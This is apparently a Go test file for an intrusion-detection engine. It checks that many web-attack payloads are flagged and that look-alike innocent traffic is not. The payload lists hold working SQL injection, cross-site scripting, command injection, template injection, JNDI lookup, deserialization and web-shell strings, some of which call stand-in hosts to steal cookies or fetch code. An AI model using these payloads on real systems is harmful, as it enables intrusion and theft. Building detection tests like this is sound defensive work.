package payload

import (
	"net/url"
	"strings"
	"testing"

	"firetower/internal/packet"
)

const jsonType = "application/json"

// TestTechniques sends one value of each technique where its application takes it:
// a parameter of an address, and what says otherwise a body or a header.
func TestTechniques(t *testing.T) {
	values := map[int][]string{
		SQLInjection: {
			"1' or true#", "1' or 1 -- ", "x' or 1 like 1-- ", "admin' -- ", "admin'#", "%' or '0'='0", "admin' || 1==1 || '", "(1)union(select(1),(2),(3))",
			"1 union(select`user`from`mysql`.`user`)", "1/*!UNION*//*!SELECT*/1,2,database()", "1' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a",
			"1' and length(database())=4 #", "1' and if(1=1,sleep(3),0)#", "1||dbms_lock.sleep(5)", "1;select pg_sleep(5)--", "1'; IF (1=1) WAITFOR DELAY '0:0:5'--",
			"1'||utl_http.request('http://192.0.2.1/'||user)||'", "1' group by 1,2,3,4-- -", "1'; update users set password='x' where id=1--", "1; DROP TABLE users",
			"x','y','z');-- ", "x'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE '' END FROM dual)||'", "1'^(select 1)^'1", "1;COPY cmd_exec FROM PROGRAM 'id';--",
			"qwert')) UNION SELECT id, email, password FROM Users--", "1' and password regexp '^a'#", "*)(uid=*))(|(uid=*", "admin)(&)", "'] | //user/*[contains(*,'", "1 and 1=2",
			"' or ''='", "'=''or'", "admin'/*", "if(now()=sysdate(),sleep(5),0)", "1-sleep(5)", "fizzy'||1||'", "']|//user/*|//a['", "'; while(true){}",
			"1 AND 3710=(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1)", "1) AND 'xncm'=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(6456),0),5000000000),NULL)", "1);CALL REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY('AES',NULL),0),500000000),NULL)--",
		},
		Scripting: {
			"<script>console.log(document.domain)</script>", "<script src=//hook.example/h.js></script>", "<img/src/onerror=alert`1`>", "<svg><animate onbegin=alert(1) attributeName=x>",
			"<details open ontoggle=print()>", "\" onmouseover=\"alert(1)", "';alert(1)//", "'-alert(1)-'", "javascript:alert(document.cookie)", "data:text/html;base64,PHNjcmlwdD4=",
			"<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">", "<x onpointerenter=alert(1)>x", "<object data=\"javascript:alert(1)\">", "<scr<script>ipt>alert(1)</script>", "<base href=//evil.example/>",
			"<object data=data:text/html;base64,PHNjcmlwdD4=></object>", "<script src=http://192.0.2.7/x.js></script>",
		},
		Command: {
			"127.0.0.1;id", "127.0.0.1|whoami", "`id`", "$(id)", "127.0.0.1\nid", "x || id", "x$(sleep 10)x", "127.0.0.1 & dir C:\\", "127.0.0.1&net user", "';id;'", "127.0.0.1;env",
			"127.0.0.1;cat${IFS}/etc/passwd", "{cat,/etc/passwd}", "/???/??t /???/p??s??", "127.0.0.1;python3 -c 'import socket,os,pty'", "127.0.0.1;echo aWQ=|base64 -d|sh", "|nslookup x.example", "|id|", "127.0.0.1;tac flag.php", "127.0.0.1;ca\\t /etc/passwd",
		},
		Traversal: {
			"/etc/issue", "/../../../etc/group", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/hosts", "/var/log/apache2/access.log", "../../../usr/local/apache2/conf/httpd.conf", "C:\\Windows\\System32\\drivers\\etc\\hosts",
			"../../../../tmp/x\x00.jpg", "../../hackable/flags/fi.php", "/usr/local/tomcat/conf/tomcat-users.xml",
		},
		Inclusion:  {"gopher://127.0.0.1:6379/_*1", "dict://127.0.0.1:11211/stat", "http://2130706433/", "http://169.254.169.254/latest/meta-data/", "phar://a.phar/b", "http://evil.example/shell.txt?", "http://127.0.0.1:22", "\\\\192.0.2.7\\share\\x"},
		Expression: {"{{7*7}}", "#{7*7}", "*{7*7}", "@(7*7)", "<%= 7*7 %>", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{lipsum.__globals__['os'].popen('id').read()}}", "{{constructor.constructor(\"alert(1)\")()}}", "{system('id')}", "a{{bar}}{{7*'7'}}", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")", "println 'id'.getClass().forName('a')", "${T(java.lang.Runtime).getRuntime().exec(\"id\")}"},
		Lookup:     {"${jndi:dns://x.example}", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://192.0.2.1/a}", "${${env:A:-j}ndi${env:A:-:}ldap://192.0.2.1/a}"},
		Object:     {"O:4:\"User\":1:{s:4:\"name\";s:1:\"a\";}", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTa", "Y29zCnN5c3RlbQooUydpZCcKdFIu", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAVpZCA+IC90bXCUhZRSlC4="},
		Code:       {"system(\"id\")", "@eval(base64_decode($_POST[z0]));", "<!--#exec cmd=\"ls\" -->", "x'.system(id).'", "QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw=="},
	}
	for kind, list := range values {
		for _, v := range list {
			expectKind(t, kind, v, get("/a?file="+url.QueryEscape(v)))
		}
	}
	requests := []struct {
		kind    int
		request string
	}{
		{SQLInjection, post("/login", jsonType, `{"email":"\u0027 or 1=1--","password":"a"}`)},
		{SQLInjection, post("/login", jsonType, `{"username":"admin","password":{"$gt":""}}`)},
		{SQLInjection, get("/login?username[$ne]=a&password[$ne]=b")},
		{SQLInjection, post("/moveitisapi/moveitisapi.dll?action=m2", "text/plain", "")},
		{Expression, post("/wls-wsat/CoordinatorPortType", "text/xml", "<soapenv:Envelope>")},
		{Command, get("/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=x")},
		{Code, post("/_ignition/execute-solution", jsonType, "{}")},
		{SQLInjection, post("/stock", "application/xml", `<stockCheck><storeId>1 &#x55;NION &#x53;ELECT password FROM users</storeId></stockCheck>`)},
		{SQLInjection, post("/p", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\n1' union select user,password from users#\r\n--b--\r\n")},
		{SQLInjection, "GET / HTTP/1.1\r\nHost: a\r\nCookie: t=x' AND '1'='1; session=abc\r\n\r\n"},
		{SQLInjection, "GET / HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: 1' or sleep(5)#\r\n\r\n"},
		{Scripting, post("/comment", form, "name=a&comment="+url.QueryEscape(`<svg onload=fetch("//192.0.2.7/"+document.cookie)>`))},
		{Scripting, post("/feedback", jsonType, "{\"comment\":\"<iframe src=\\\"javascript:alert(`x`)\\\">\"}")},
		{Scripting, "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: <script>alert(1)</script>\r\n\r\n"},
		{Command, post("/ping", jsonType, `{"host":"127.0.0.1; cat /flag"}`)},
		{Command, get("/uploads/x.php?c=ls+-la")}, {Command, post("/x.php", form, "cmd=whoami")},
		{Traversal, get("/static/..%2f..%2f..%2f..%2fetc%2fhostname")}, {Traversal, get("/plugins/alertlist/../../../../../../etc/passwd")},
		{Traversal, post("/up", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../x.txt\"\r\n\r\nx\r\n--b--\r\n")},
		{Code, post("/up", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\".htaccess\"\r\n\r\nAddType application/x-httpd-php .jpg\r\n--b--\r\n")},
		{Code, post("/c.php", form, "ant="+url.QueryEscape(`@ini_set("display_errors", "0");@set_time_limit(0);`+strings.Repeat("function asenc($out){return $out;}", 20)))},
		{Object, post("/j", jsonType, `{"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://192.0.2.1/E"}}`)},
		{Object, post("/rpc", "application/octet-stream", "\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\x00\x00")},
		{Object, post("/invoker/readonly", "application/octet-stream", "\xac\xed\x00\x05sr\x00\x11java.util.HashSet")},
		{Object, post("/j", jsonType, `{"__proto__":{"isAdmin":true}}`)},
		{Entity, post("/x", "text/xml", `<!DOCTYPE foo SYSTEM "http://192.0.2.1/x.dtd"><a/>`)},
		{Shellshock, "GET /cgi-bin/a HTTP/1.1\r\nHost: a\r\nUser-Agent: () { 42;};echo;/usr/bin/id\r\n\r\n"},
		{Smuggling, "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"},
		{Smuggling, get("/x?l=en%0d%0aSet-Cookie:%20a=b")},
		{Inclusion, get("/autodiscover/autodiscover.json?a=a@b.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3Fa=a@b.example")}, {Traversal, get("/hax?jsp=/app/rest/server;.jsp")},
		{SQLInjection, get("/x.asp?id=1+update+t+set+c=REPLACE(c,'a','')--")}, {Command, get("/goform/x?sysCmd=wget%20http://192.0.2.7/x")}, {Code, get("/plus/a.php?_REQUEST[a]=b&GLOBALS[x]=1")},
		{Smuggling, "GET /d HTTP/1.1\r\nHost: a\r\nx-middleware-subrequest: middleware:middleware\r\n\r\n"}, {Smuggling, "GET /cgi-bin/x HTTP/1.1\r\nHost: a\r\nProxy: 192.0.2.7:8080\r\n\r\n"},
		{Smuggling, "GET /api/v2/cmdb/system/admin HTTP/1.1\r\nHost: a\r\nForwarded: by=\"[127.0.0.1]:80\";for=\"[127.0.0.1]:80\"\r\n\r\n"}, {Traversal, "GET /robots HTTP/1.1\r\nHost: a\r\nAccept: ../../../../etc/passwd{{\r\n\r\n"},
		{Overflow, "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFF0\r\nAAAA"}, {Code, "GET / HTTP/1.1\r\nHost: a\r\nCookie: GLOBALS[a][b]=phpinfo();\r\n\r\n"},
		{Overflow, get("/" + strings.Repeat("A", 600))}, {Overflow, "SEARCH /" + strings.Repeat("\x90", 400) + " HTTP/1.1\r\nHost: a\r\n\r\n"}, {Overflow, get("/NULL.IDA?CCCCCCCC")},
		{SQLInjection, "POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n8\r\nid=1' un\r\n4;x=y\r\nion \r\n10\r\nselect 1,2,3-- a\r\n0\r\n\r\n"},
		{SQLInjection, get("/index.php?option=com_contenthistory&view=history&list[select]=1")}, {SQLInjection, "GET / HTTP/1.1\r\nHost: a' or sleep(5)-- -\r\n\r\n"},
		{Entity, post("/x", form, "xml="+url.QueryEscape(`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`))},
		{Code, "MOVE /x.txt HTTP/1.1\r\nHost: a\r\nDestination: http://a/x.asp;.txt\r\n\r\n"}, {Command, get("/shell.php?cmd=ls")}, {Command, get("/cgi-bin/;cat${IFS}/etc/passwd")},
		{Smuggling, get("/%0d%0aLocation:%20//evil.example")}, {Inclusion, "POST /ecp/y.js HTTP/1.1\r\nHost: a\r\nCookie: X-BEResource=localhost/a.asmx?a=~1942062522\r\n\r\n"},
		{Code, post("/up", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.phtml\"\r\n\r\nGIF89a<script language='php'>eval($_POST[1]);</script>\r\n--b--\r\n")},
		{Command, post("/up", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\npush graphic-context\nfill 'url(https://a/b.jpg\"|touch \"/tmp/x)'\r\n--b--\r\n")},
	}
	for _, r := range requests {
		expectKind(t, r.kind, r.request, r.request)
	}
}

func expectKind(t *testing.T, kind int, name, request string) {
	t.Helper()
	if s := talk(packet.TCP, step{'>', request}); s.HTTP.Clear[kind] == 0 {
		t.Errorf("no %s in %q; scores %v", KindNames[kind], name, s.HTTP.Score)
	}
}

// TestInnocentValues holds what people search for, and what programs ask, in the
// words that attacks are made of.
func TestInnocentValues(t *testing.T) {
	values := []string{
		"how to prevent ' or 1=1 -- attacks", "a'b'c", "l'art et l'homme", "src/*.js", "'a'='a'",
		"O'Reilly", "don't look back", "women's and men's", "'quoted phrase' or 'another'", "5' 10\" tall", "select the union of two tables", "how to drop table in mysql", "union select in sql",
		"order by price", "what is or 1=1 in sql", "javascript alert() not working", "<script> tag", "$(document).ready", "/etc/passwd format", "chmod 777 meaning", "curl http post",
		"Name eq 'Milk' and Price gt 5 or contains(Name,'x')", "Title eq 'O''Neil' or Author eq 'x'", "STATE='CA' AND POP>1000", "1=1", "name='x' AND pop > 5 OR INTERSECTS(geom, POINT(1 2))",
		"project = ABC AND status in (Open, 'In Progress') ORDER BY created DESC", "SELECT * FROM cpu WHERE host='a' OR host='b' ORDER BY time DESC LIMIT 1",
		"SELECT name FROM system.columns WHERE table='x' UNION ALL SELECT 1", `sum(rate(http_requests_total{job="api",code=~"5.."}[5m])) by (instance) / 2 > 0.1`,
		`{app="web"} |= "error" | json | line_format "{{.msg}}"`, "(&(objectClass=user)(cn=bob*))", `^(a|b)+\.(php|jsp)$`, `{"year":{"$gt":2010},"name":{"$ne":"x"}}`,
		"http://de.example.com/index.php", "http://localhost:8080/cb", "/a/b?x=1", `\frac{a}{b} | {x} $y$`, "cat|dog|id|net|set", "c.js;d|e", "function(a,b){return a||b;}", "sleep(music)",
		"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N", "/wEPDwUKLTYxNjI1ODQ4Nw9kFgICAw9kFgICAQ8PFgIeBFRleHQFBUhlbGxvZGRk",
		"\x12'\";|`\x00()<>..\x07/../", "R&D; net sales", "Flat 5; 12 St. John's Rd & Co | rear (left)", "error OR (select)", "status:500 AND (user)", "count AND (case)", "name:\"O'Neil\" and age>5", "rm -rf meaning", "history | grep ssh", "php -v", "java.lang.Runtime docs", "call me; ls is my initials || or 1 hour before", "=IF(A1>5,\"x\",SUM(B1:B9))&CONCAT(A1,\"|\")",
	}
	for _, v := range values {
		innocent(t, v, get("/search?q="+url.QueryEscape(v)))
		innocent(t, v, post("/search", form, "q="+url.QueryEscape(v)))
	}
	requests := []string{
		post("/api/alerts", jsonType, `{"rule": "SQLi", "payload": "1' UNION SELECT 1,2--", "src": "192.0.2.7"}`), post("/events", jsonType, `{"level":"warn","message":"' OR 1=1 --"}`),
		post("/api/v2/ingest", jsonType, `[{"message":"GET /?q=../../etc/passwd 404"}]`), post("/insights", jsonType, `{"uri":"/a?x=1;cat /etc/passwd","status":403}`),
		post("/x", jsonType, `{"timestamp":1700000000,"user_agent":"() { :;}; /bin/bash -c id"}`), get("/loki/api/v1/query?query=%7Bapp%3D%22x%22%7D%20%7C%3D%20%22union%20select%201%22"),
		get("/users?username[$ne]=admin&$limit=10"), post("/users/search", jsonType, `{"email":{"$regex":"@example.com$"},"active":true}`), get("/path;ls"), get("/a;type=book;sort=price"),
		get("/autodiscover/autodiscover.json?Email=a%40b.example&Protocol=ActiveSync&RedirectCount=1"), "GET / HTTP/1.1\r\nHost: a\r\nForwarded: for=192.0.2.60;proto=http;by=203.0.113.43\r\nProxy-Connection: keep-alive\r\n\r\n",
		get("/live/a/../../segment5.ts"), get("/wiki/globals.html"),
		"MOVE /a.tmp HTTP/1.1\r\nHost: a\r\nDestination: http://a/b%20(1).docx\r\n\r\n", get("/index.php?page=about.php"), get("/connector.php?cmd=ls&target=l1_Lw"), get("/api.cgi?cmd=set"),
		post("/notes", "text/plain", "5\r\nhello\r\n0\r\n\r\n"), get("/sms?msg=Hi%0aCall:%20me"), get("/hook?url=http://127.0.0.1:5000/webhook"), get("/think/app.css"),
		"SEARCH / HTTP/1.1\r\nHost: a\r\n\r\n<?xml version=\"1.0\"?><g:searchrequest xmlns:g=\"DAV:\"><g:sql>SELECT \"DAV:displayname\" FROM scope('shallow traversal of \"/x\"')</g:sql></g:searchrequest>",
		post("/wp-admin/post.php", form, "content="+url.QueryEscape(`<p>Hello</p><script>var a = 1;</script><img src="a.png" onload="fit(this)">`)),
		post("/paste", form, "text="+url.QueryEscape("#!/bin/bash\ncd /tmp; wget http://example.org/a.tar.gz && tar xzf a.tar.gz\nchmod +x a/run.sh\nrm -rf a\ncat /etc/hosts")),
		post("/wiki", form, "text="+url.QueryEscape("== Joins ==\n<pre>SELECT a.id FROM a LEFT JOIN b WHERE a.x='1' OR b.y='2' ORDER BY a.id; DROP TABLE tmp; -- done</pre>")),
		post("/ask", form, "text="+url.QueryEscape("Why does it work when I write <img src=x onerror=alert(1)> there?")),
		post("/chat", jsonType, "{\"message\":\"try `ls -la /var/log` | then `cat foo; rm bar` && tell me $(date)\"}"),
		post("/gists", jsonType, `{"content":"#!/bin/sh\nuname -a; id; cat /etc/os-release | head\n"}`),
		post("/log", jsonType, `{"event":"type=EXECVE argc=3 a0=\"/bin/sh\" a1=\"-c\" a2=\"uname -a; wget http://x\""}`),
		post("/log", jsonType, `{"m":"cmd.exe /c echo started; powershell -File a.ps1 ran"}`),
		post("/_bulk", "application/x-ndjson", "{\"index\":{}}\n{\"message\":\"GET /a?id=1%27%20or%201=1 HTTP/1.1 404; sudo: user : cat /etc/passwd\"}\n"),
		post("/_bulk", "application/x-ndjson", "{\"index\":{}}\n{\"message\":\"GET /${jndi:ldap://198.51.100.9/a} HTTP/1.1 404\"}\n"),
		get("/api/v1/namespaces/shop/pods/web-0/exec?command=%2Fbin%2Fsh&command=-c&command=cat+%2Fetc%2Fhosts%3B+id&stdin=true"),
		post("/v1.45/containers/3f4e/exec", jsonType, `{"AttachStdin":true,"Cmd":["/bin/sh","-c","cat /etc/passwd; uname -a"]}`),
		post("/graphql", jsonType, `{"query":"query GetUser($id: ID!) { user(id: $id) { name posts(first: 10) { edges { node { id } } } } }"}`),
		post("/?database=default", "text/plain", "SELECT count() FROM system.tables WHERE name = 't' UNION ALL SELECT 1"),
		post("/user-data", "text/plain", "#cloud-config\nruncmd:\n - curl http://10.0.0.1/x.sh | sh\n - reboot\n"),
		post("/up", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"app.min.js\"\r\n\r\n!function(e){eval(\"x\");document.cookie=\"a\";if(a&&b||c){alert(1)}}\r\n--b--\r\n"),
		post("/up", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"logo.svg\"\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg onload=\"init(evt)\"></svg>\r\n--b--\r\n"),
		post("/csp", jsonType, `{"csp-report":{"violated-directive":"script-src","script-sample":"alert(1)","original-policy":"default-src 'self' 'unsafe-inline'"}}`),
		post("/login", form, "user=bob&password="+url.QueryEscape(`p'a"s;s|w<o>r$d(1)`)),
		post("/render.jsf", form, "javax.faces.ViewState="+url.QueryEscape("rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwCAAB4cAAAAAI=")),
		get("/adj/site;sz=728x90;tile=1;ord=123;kw=a|b;u=http://a.example/x?y=1;cat=news;id=5;ls=2?"), get("/debian/dists/stable/../bookworm/Release"), get("/wiki/%3Cscript%3E_tag"), get("/docs/etc/passwd"),
		get("/elfinder/connector.php?cmd=open&target=l1_Lw"), get("/device.rsp?opt=user&cmd=list"), get("/moveitisapi/moveitisapi.dll?action=capa"), post("/wls-wsat/RegistrationPortTypeRPC", "text/xml", "<soap>"), get("/a;jsessionid=ABC123?x=1"), get("/api?redirect_uri=http%3A%2F%2F127.0.0.1%3A8080%2Fcb"),
		"GET / HTTP/1.1\r\nHost: a\r\nReferer: http://s.example/search?q=sql+union+select+%27tutorial%27\r\nCookie: a='b'; c=\"d\"; prefs={'x':1,'y':(2)}; s=$(x); u=(select)\r\n\r\n",
	}
	for _, r := range requests {
		innocent(t, r, r)
	}
}

func innocent(t *testing.T, name, request string) {
	t.Helper()
	if s := talk(packet.TCP, step{'>', request}); s.HTTP.Clear != [Kinds]uint8{} {
		t.Errorf("injection in %q: scores %v of %v", name, s.HTTP.Score, KindNames)
	}
}
